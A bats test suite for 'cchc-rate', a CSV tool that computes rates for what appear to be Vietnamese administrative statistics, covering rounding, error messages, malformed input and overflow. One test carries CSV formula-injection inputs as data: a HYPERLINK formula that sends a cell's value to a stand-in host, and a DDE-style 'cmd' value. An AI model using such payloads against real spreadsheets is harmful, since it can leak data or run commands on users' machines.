#!/usr/bin/env bats
# cchc-rate: exact percentages, rounding at the half, usage errors that point.

load helper

@test "rate: the seed's rates, exactly: 29632/29781 is 99.50, never 99.49" {
	printf 'cap,dung,tong\ntinh,123683,123747\nhuyen,29632,29781\nxa,298921,301390\n' > "$T/r.csv"
	run --separate-stderr cchc-rate r=dung/tong "$T/r.csv"
	assert_success
	assert_output $'cap,dung,tong,r\ntinh,123683,123747,99.95\nhuyen,29632,29781,99.50\nxa,298921,301390,99.18'
	assert_equal "$stderr" ""
}

# Values exactly at the half: 1/8 = 12.5%, 1/16 = 6.25%, 1/40 = 2.5%, 1/800 = 0.125%,
# 1/1600 = 0.0625%, 3/8 = 37.5%; rounded half away from zero.
@test "rate: rounding at the half (x.xx5) goes away from zero, at every -p" {
	printf 'a,b\n1,8\n1,16\n1,40\n1,800\n1,1600\n3,8\n2,3\n' > "$T/h.csv"
	run cchc-rate -p 0 r=a/b "$T/h.csv"
	assert_output $'a,b,r\n1,8,13\n1,16,6\n1,40,3\n1,800,0\n1,1600,0\n3,8,38\n2,3,67'
	run cchc-rate -p 1 r=a/b "$T/h.csv"
	assert_output $'a,b,r\n1,8,12.5\n1,16,6.3\n1,40,2.5\n1,800,0.1\n1,1600,0.1\n3,8,37.5\n2,3,66.7'
	run cchc-rate r=a/b "$T/h.csv"
	assert_output $'a,b,r\n1,8,12.50\n1,16,6.25\n1,40,2.50\n1,800,0.13\n1,1600,0.06\n3,8,37.50\n2,3,66.67'
	run cchc-rate -p 3 r=a/b "$T/h.csv"
	assert_output $'a,b,r\n1,8,12.500\n1,16,6.250\n1,40,2.500\n1,800,0.125\n1,1600,0.063\n3,8,37.500\n2,3,66.667'
}

@test "rate: sums of columns, several rates, a zero denominator gives an empty field" {
	printf 'k,x,y,z\na,1,2,6\nb,0,0,0\n' > "$T/s.csv"
	run --separate-stderr cchc-rate 'p=x+y/z' 'q=x/y+z' "$T/s.csv"
	assert_success
	assert_output $'k,x,y,z,p,q\na,1,2,6,50.00,12.50\nb,0,0,0,,'
}

@test "rate: no NAME=EXPR: the standard rates whose columns are present" {
	run --separate-stderr sh -c "cchc-sum --period 2024 -g cap --total '$DATA/sum-hand.csv' 2>/dev/null | cchc-rate"
	assert_success
	assert_line --index 0 --partial ",dang_qua_han,ty_le_dung_han,ty_le_truc_tuyen"
	assert_line --index 2 "tinh,6,0,6,3,2,1,6,1,3,2,0,0,0,66.67,50.00"
	assert_line --index 4 "tong,14,2,12,7,4,1,9,4,3,2,5,3,2,77.78,58.33"
	printf 'cap,nop_truc_tuyen,moi_tiep_nhan\nxa,3,4\n' > "$T/o.csv"
	run cchc-rate "$T/o.csv"
	assert_output $'cap,nop_truc_tuyen,moi_tiep_nhan,ty_le_truc_tuyen\nxa,3,4,75.00'
	printf 'cap,x\nxa,3\n' > "$T/n.csv"
	run --separate-stderr cchc-rate "$T/n.csv"
	assert_failure 2
	[[ "$stderr" == *"no standard rate can be computed"* ]]
}

@test "rate: a non-numeric operand is reported with line and column; the row keeps an empty rate" {
	printf 'k,a,b\nx,1,2\ny,abc,2\nz,1.5,2\n' > "$T/b.csv"
	run --separate-stderr cchc-rate r=a/b "$T/b.csv"
	assert_failure 1
	assert_output $'k,a,b,r\nx,1,2,50.00\ny,abc,2,\nz,1.5,2,'
	diff -u - <(printf '%s\n' "$stderr" | sed "s|$T/||") <<'ERR'
cchc-rate: b.csv:3: a: not a number (for r): "abc"
cchc-rate: b.csv:4: a: a count has no fraction (for r): "1.5"
ERR
}

@test "rate: a malformed expression is a usage error pointing at the mistake" {
	run --separate-stderr cchc-rate 'r=a+/b'
	assert_failure 2
	assert_equal "$stderr" "cchc-rate: r=a+/b: a name is missing before this
  r=a+/b
      ^"
	run --separate-stderr cchc-rate 'r=a/b/c'
	assert_failure 2
	[[ "$stderr" == *"a second '/': a rate has one"* ]]
	run --separate-stderr cchc-rate 'r=a+b'
	assert_failure 2
	[[ "$stderr" == *"a rate needs '/'"* ]]
	run --separate-stderr cchc-rate '=a/b'
	assert_failure 2
	run --separate-stderr cchc-rate 'r=a*2/b'
	assert_failure 2
	[[ "$stderr" == *"only names, '+' and one '/' may be used"* ]]
	run --separate-stderr cchc-rate -p 16 r=a/b
	assert_failure 2
	printf 'a,b\n1,2\n' > "$T/x.csv"
	run --separate-stderr cchc-rate r=a/nope "$T/x.csv"
	assert_failure 2
	[[ "$stderr" == *'x.csv:1: r=a/nope: no column "nope"'* ]]
	run --separate-stderr cchc-rate a=a/b "$T/x.csv"
	assert_failure 2
	[[ "$stderr" == *"the table has a column a already"* ]]
}

@test "rate: /dev/full, --help, --version" {
	[ -c /dev/full ] && [ -w /dev/full ] || skip "no /dev/full device"
	printf 'a,b\n1,2\n' > "$T/x.csv"
	run --separate-stderr sh -c "cchc-rate r=a/b '$T/x.csv' > /dev/full"
	assert_failure 2
	[[ "$stderr" == *"write error on standard output: No space left on device"* ]]
	run cchc-rate --help
	assert_line --index 0 "usage: cchc-rate [-p DIGITS] [--excel] [NAME=EXPR]... [FILE]..."
	run cchc-rate --version
	assert_output --regexp '^cchc-rate [0-9.]+$'
}

# Finding 01 for cchc-rate: a header whose quote never closes swallowed the
# whole table, exit 0 and a header line with nothing under it.
@test "rate: a syntax error in a header is exit 2 naming the file, line and character" {
	printf 'cap,da_giai_quyet,gq_truoc_han,gq_dung_han,"ghi chu\ntinh,10,5,3,x\nxa,4,1,1,y\n' > "$T/open.csv"
	run --separate-stderr cchc-rate "$T/open.csv"
	assert_failure 2
	assert_output ""
	assert_equal "$stderr" "cchc-rate: $T/open.csv:1: header: malformed CSV in field 5: quote never closed: the field runs to the end of the file"
	printf 'cap,a,ghi "chu"\ntinh,1,x\n' > "$T/stray.csv"
	run --separate-stderr cchc-rate r=a/a "$T/stray.csv"
	assert_failure 2
	assert_output ""
	assert_equal "$stderr" "cchc-rate: $T/stray.csv:1: header: malformed CSV at character 11: quote inside an unquoted field"
	# in a later file: what came before is written, the job is not done (exit 2)
	printf 'cap,a,b\ntinh,1,2\n' > "$T/one.csv"
	printf '\n\ncap,a,"b\nxa,1,2\n' > "$T/two.csv"
	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/two.csv"
	assert_failure 2
	assert_output $'cap,a,b,r\ntinh,1,2,50.00'
	assert_equal "$stderr" "cchc-rate: $T/two.csv:3: header: malformed CSV in field 3: quote never closed: the field runs to the end of the file"
	# a later header that is not text, or not the first's
	printf 'cap,\377,b\nxa,1,2\n' > "$T/bad.csv"
	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/bad.csv"
	assert_failure 2
	assert_equal "$stderr" "cchc-rate: $T/bad.csv:1: header: a UTF-8 character is cut short at the end of the field: \"\\xff\""
	printf 'cap,b,a\nxa,1,2\n' > "$T/swap.csv"
	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/swap.csv"
	assert_failure 2
	assert_equal "$stderr" "cchc-rate: $T/swap.csv:1: the header is not the first file's"
	# a first header that is not UTF-8: exit 2 (and nothing leaks: the sanitizer build agrees)
	printf 'cap,a,b\xe0c\nxa,1,2\n' > "$T/h8.csv"
	run --separate-stderr cchc-rate r=a/a "$T/h8.csv"
	assert_failure 2
	[[ "$stderr" == "cchc-rate: $T/h8.csv:1: header: not UTF-8; a legacy Vietnamese file converts with iconv -f CP1258"* ]]
}

@test "rate: a syntax error in a data row is a row problem (exit 1): reported, the row left out" {
	printf 'cap,a,b\ntinh,1,2\nxa,1"0,2\nhuyen,3,4\n"q,1,2\n' > "$T/r.csv"
	run --separate-stderr cchc-rate r=a/b "$T/r.csv"
	assert_failure 1
	assert_output $'cap,a,b,r\ntinh,1,2,50.00\nhuyen,3,4,75.00'
	assert_equal "$stderr" "cchc-rate: $T/r.csv:3: malformed CSV at character 5: quote inside an unquoted field
cchc-rate: $T/r.csv:5: malformed CSV in field 1: quote never closed: the field runs to the end of the file"
}

# Finding 15 (f): the message blamed an operand when the sum was too large.
@test "rate: a sum past the largest count is said to be the sum, naming its terms and values" {
	printf 'a,b,c\nx,9223372036854775807,1\ny,9223372036854775807,9223372036854775807\nz,1,0\nw,0,0\nv,5,-0\nu,1 000,3\nt,9223372036854775807,1\ns,9223372036854775808,1\n' > "$T/big.csv"
	run --separate-stderr cchc-rate 'r2=b+b/c' "$T/big.csv"
	assert_failure 1
	assert_output $'a,b,c,r2\nx,9223372036854775807,1,\ny,9223372036854775807,9223372036854775807,\nz,1,0,\nw,0,0,\nv,5,-0,\nu,1 000,3,66666.67\nt,9223372036854775807,1,\ns,9223372036854775808,1,'
	assert_equal "$stderr" "cchc-rate: $T/big.csv:2: b+b: sum too large (for r2): \"9223372036854775807+9223372036854775807\" (3 rows)
cchc-rate: $T/big.csv:9: b: number too large (for r2): \"9223372036854775808\""
	run --separate-stderr cchc-rate 'r=b/c+c' 'q=b/b' "$T/big.csv"
	assert_failure 1
	assert_line --index 2 "y,9223372036854775807,9223372036854775807,,100.00"
	assert_line --index 1 "x,9223372036854775807,1,461168601842738790350.00,100.00"
	assert_equal "$(printf '%s\n' "$stderr" | head -n 1)" "cchc-rate: $T/big.csv:3: c+c: sum too large (for r): \"9223372036854775807+9223372036854775807\""
}

@test "rate: the same problem with the same value is said once, on its first line, with the number of rows" {
	{ printf 'k,a,b\n'; for i in $(seq 1 40); do printf 'g%d,abc,2\n' "$i"; done
	  printf 'h,1.5,2\nh2,abc,x\nh3,1,2,3\nh4,1,2,3\n'; } > "$T/m.csv"
	run --separate-stderr cchc-rate r=a/b "$T/m.csv"
	assert_failure 1
	assert_equal "${#lines[@]}" 43
	assert_equal "$stderr" "cchc-rate: $T/m.csv:2: a: not a number (for r): \"abc\" (41 rows)
cchc-rate: $T/m.csv:42: a: a count has no fraction (for r): \"1.5\"
cchc-rate: $T/m.csv:44: expected 3 fields, found 4 (2 rows)"
	# said per file, at its end, in the order of the files
	cp "$T/m.csv" "$T/n.csv"
	run --separate-stderr cchc-rate r=a/b "$T/m.csv" "$T/n.csv"
	assert_failure 1
	assert_equal "$(printf '%s\n' "$stderr" | sed 's/^cchc-rate: \([^:]*:[0-9]*\):.*/\1/' | paste -sd' ')" "$T/m.csv:2 $T/m.csv:42 $T/m.csv:44 $T/n.csv:2 $T/n.csv:42 $T/n.csv:44"
}

@test "rate: a row that is not UTF-8 or holds a NUL is reported and left out: the output is UTF-8" {
	printf 'k,a,b\nH\xe0 N\xf4i,1,2\nx,1,2\ny\000z,1,2\nH\xe0 N\xf4i,3,4\n' > "$T/u.csv"
	run --separate-stderr cchc-rate r=a/b "$T/u.csv"
	assert_failure 1
	assert_output $'k,a,b,r\nx,1,2,50.00'
	assert_equal "$stderr" "cchc-rate: $T/u.csv:2: k: not UTF-8; a legacy Vietnamese file converts with iconv -f CP1258 -t UTF-8 (or -f TCVN5712-1): \"H\\xe0 N\\xf4i\" (2 rows)
cchc-rate: $T/u.csv:4: k: a NUL byte in the text: \"y\\x00z\""
}

# The project's decision (cchc-rate(1), cchc(7) SPREADSHEETS): cchc-rate is a
# data filter; a value that a spreadsheet would run passes through unchanged.
@test "rate: formula-leading values pass through unchanged, byte for byte" {
	printf 'co_quan,a,b\n"=HYPERLINK(""http://x.example/?""&A1,""Sở"")",1,2\n@SUM(1+1)*cmd|x,1,4\n+1,1,1\n-x,0,1\n' > "$T/f.csv"
	run --separate-stderr cchc-rate r=a/b "$T/f.csv"
	assert_success
	assert_output - <<'OUT'
co_quan,a,b,r
"=HYPERLINK(""http://x.example/?""&A1,""Sở"")",1,2,50.00
@SUM(1+1)*cmd|x,1,4,25.00
+1,1,1,100.00
-x,0,1,0.00
OUT
}

@test "rate: standard input once, a NAME once; BOM, CRLF, a header alone, an empty file; | head is never 0" {
	printf 'a,b\n1,2\n' > "$T/x.csv"
	run --separate-stderr cchc-rate r=a/b - - < "$T/x.csv"
	assert_failure 2
	assert_output ""
	assert_equal "$stderr" "cchc-rate: -: standard input is named twice (it can be read once)"
	run --separate-stderr cchc-rate r=a/b R=b/a "$T/x.csv"
	assert_failure 2
	assert_equal "$stderr" "cchc-rate: R=b/a: this NAME is given twice: a column has one name
  R=b/a
  ^"
	run --separate-stderr cchc-rate ' _=a/b' "$T/x.csv"
	assert_failure 2
	[[ "$stderr" == "cchc-rate:  _=a/b: the NAME is not a column name"* ]]
	printf '\357\273\277a,b\r\n1,2\r\n3,4\r\n' > "$T/bom.csv"
	run --separate-stderr cchc-rate r=a/b "$T/bom.csv"
	assert_success
	assert_output $'a,b,r\n1,2,50.00\n3,4,75.00'
	printf 'a,b\n' > "$T/h.csv"
	run --separate-stderr cchc-rate r=a/b "$T/h.csv"
	assert_success
	assert_output "a,b,r"
	: > "$T/e.csv"
	run --separate-stderr cchc-rate r=a/b "$T/e.csv"
	assert_failure 2
	assert_equal "$stderr" "cchc-rate: $T/e.csv: empty file: no header line"
	{ printf 'a,b\n'; seq 1 200000 | sed 's/$/,7/'; } > "$T/big.csv"
	run bash -c "cchc-rate r=a/b '$T/big.csv' | head -n 2; echo \${PIPESTATUS[0]}"
	assert_output $'a,b,r\n1,7,14.29\n141'
	run bash -c "trap '' PIPE; cchc-rate r=a/b '$T/big.csv' | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
	assert_output "141"
}
